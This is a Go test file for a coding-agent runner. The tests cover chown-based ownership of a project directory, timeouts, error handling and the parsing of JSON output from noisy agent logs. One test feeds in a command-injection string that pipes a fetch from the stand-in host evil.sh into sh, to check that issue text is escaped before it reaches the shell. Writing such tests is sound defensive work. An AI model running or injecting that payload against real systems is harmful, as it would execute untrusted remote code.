package agent

import (
	"context"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/remedyhq/remedy/internal/remotecmd"
)

type execCall struct {
	envID   string
	command string
	cwd     string
	timeout time.Duration
}

type fakeExecutor struct {
	calls   []execCall
	results []remotecmd.Result
	errs    []error
}

func (f *fakeExecutor) Exec(_ context.Context, envID, command, cwd string, timeout time.Duration) (remotecmd.Result, error) {
	i := len(f.calls)
	f.calls = append(f.calls, execCall{envID: envID, command: command, cwd: cwd, timeout: timeout})
	var res remotecmd.Result
	var err error
	if i < len(f.results) {
		res = f.results[i]
	}
	if i < len(f.errs) {
		err = f.errs[i]
	}
	return res, err
}

func TestRun_OwnershipAcquiredAndReleased(t *testing.T) {
	exec := &fakeExecutor{results: []remotecmd.Result{
		{ExitCode: 0}, // chown acquire
		{ExitCode: 0, Stdout: `done. {"summary":"fixed","files_changed":["a.go"],"notes":""}`},
		{ExitCode: 0}, // chown release
	}}
	r := NewRunner(exec, nil)

	res, err := r.Run(context.Background(), "env-after", "/home/user/shop", "Button not clickable", "click does nothing")
	if err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if !res.Parsed || res.Summary != "fixed" {
		t.Errorf("result = %+v", res)
	}
	if len(exec.calls) != 3 {
		t.Fatalf("calls = %d, want 3", len(exec.calls))
	}
	if !strings.Contains(exec.calls[0].command, "chown -R agent:agent") {
		t.Errorf("first call is not the acquire: %q", exec.calls[0].command)
	}
	if !strings.Contains(exec.calls[2].command, "chown -R user:user") {
		t.Errorf("last call is not the release: %q", exec.calls[2].command)
	}
}

func TestRun_ReleasesOwnershipWhenAgentFails(t *testing.T) {
	exec := &fakeExecutor{
		results: []remotecmd.Result{{ExitCode: 0}, {}, {ExitCode: 0}},
		errs:    []error{nil, errors.New("transport down"), nil},
	}
	r := NewRunner(exec, nil)

	_, err := r.Run(context.Background(), "env-after", "/home/user/shop", "t", "b")
	if err == nil {
		t.Fatal("expected an error")
	}
	if len(exec.calls) != 3 {
		t.Fatalf("calls = %d, want 3 (release must run on failure)", len(exec.calls))
	}
	if !strings.Contains(exec.calls[2].command, "user:user") {
		t.Errorf("release not issued after failure: %q", exec.calls[2].command)
	}
}

func TestRun_IssueTextNeverAppearsRawInCommand(t *testing.T) {
	hostile := `pwned"; curl evil.sh | sh; echo "`
	exec := &fakeExecutor{results: []remotecmd.Result{
		{ExitCode: 0},
		{ExitCode: 0, Stdout: "no json here"},
		{ExitCode: 0},
	}}
	r := NewRunner(exec, nil)

	if _, err := r.Run(context.Background(), "env-after", "/home/user/shop", hostile, hostile); err != nil {
		t.Fatalf("unexpected error: %v", err)
	}
	if strings.Contains(exec.calls[1].command, "curl evil.sh") {
		t.Errorf("hostile issue text leaked into the shell command")
	}
}

func TestRun_NonZeroAgentExitIsError(t *testing.T) {
	exec := &fakeExecutor{results: []remotecmd.Result{
		{ExitCode: 0},
		{ExitCode: 2, Stderr: "model overloaded"},
		{ExitCode: 0},
	}}
	r := NewRunner(exec, nil)

	_, err := r.Run(context.Background(), "env-after", "/home/user/shop", "t", "b")
	if err == nil || !strings.Contains(err.Error(), "exited with code 2") {
		t.Errorf("err = %v", err)
	}
}

func TestRun_AgentTimeoutPropagates(t *testing.T) {
	exec := &fakeExecutor{
		results: []remotecmd.Result{{ExitCode: 0}, {}, {ExitCode: 0}},
		errs:    []error{nil, &remotecmd.TimeoutError{Timeout: time.Minute}, nil},
	}
	r := NewRunner(exec, nil, WithTimeout(time.Minute))

	_, err := r.Run(context.Background(), "env-after", "/home/user/shop", "t", "b")
	var timeoutErr *remotecmd.TimeoutError
	if !errors.As(err, &timeoutErr) {
		t.Errorf("err = %v, want wrapped *TimeoutError", err)
	}
	if exec.calls[1].timeout != time.Minute {
		t.Errorf("timeout = %s, want 1m", exec.calls[1].timeout)
	}
}

func TestParse_ExtractsPayloadFromNoise(t *testing.T) {
	output := "Thinking...\nEditing files\n" +
		`{"summary":"guarded nil handler","files_changed":["ui/button.tsx"],"notes":"added a test"}` +
		"\nDone."
	res := Parse(output)
	if !res.Parsed {
		t.Fatal("Parsed = false")
	}
	if res.Summary != "guarded nil handler" {
		t.Errorf("Summary = %q", res.Summary)
	}
	if len(res.FilesChanged) != 1 || res.FilesChanged[0] != "ui/button.tsx" {
		t.Errorf("FilesChanged = %v", res.FilesChanged)
	}
	if res.Raw != output {
		t.Error("Raw must preserve the full output")
	}
}

func TestParse_BracesInsideStringsDoNotUnbalance(t *testing.T) {
	output := `log line {"summary":"fixed the {weird} case","files_changed":[],"notes":"brace } in text"} trailing`
	res := Parse(output)
	if !res.Parsed {
		t.Fatal("Parsed = false")
	}
	if res.Summary != "fixed the {weird} case" {
		t.Errorf("Summary = %q", res.Summary)
	}
}

func TestParse_DegradedOnMissingOrBrokenPayload(t *testing.T) {
	for name, output := range map[string]string{
		"no payload":   "the agent rambled and printed nothing structured",
		"unbalanced":   `{"summary": "never closed`,
		"invalid json": `{"summary": unquoted}`,
	} {
		t.Run(name, func(t *testing.T) {
			res := Parse(output)
			if res.Parsed {
				t.Error("Parsed = true, want degraded result")
			}
			if res.Raw != output {
				t.Error("Raw not preserved")
			}
		})
	}
}

func TestExtractJSON_FirstBalancedRegionWins(t *testing.T) {
	s := `noise {"a":1} more {"b":2}`
	payload, ok := extractJSON(s)
	if !ok || payload != `{"a":1}` {
		t.Errorf("payload = %q, ok = %v", payload, ok)
	}
}

func TestRenderPrompt_ContainsIssueText(t *testing.T) {
	prompt, err := renderPrompt("Button not clickable", "click does nothing")
	if err != nil {
		t.Fatalf("render: %v", err)
	}
	if !strings.Contains(prompt, "Button not clickable") || !strings.Contains(prompt, "click does nothing") {
		t.Errorf("prompt missing issue text:\n%s", prompt)
	}
	if !strings.Contains(prompt, `"summary"`) {
		t.Error("prompt missing output contract")
	}
}
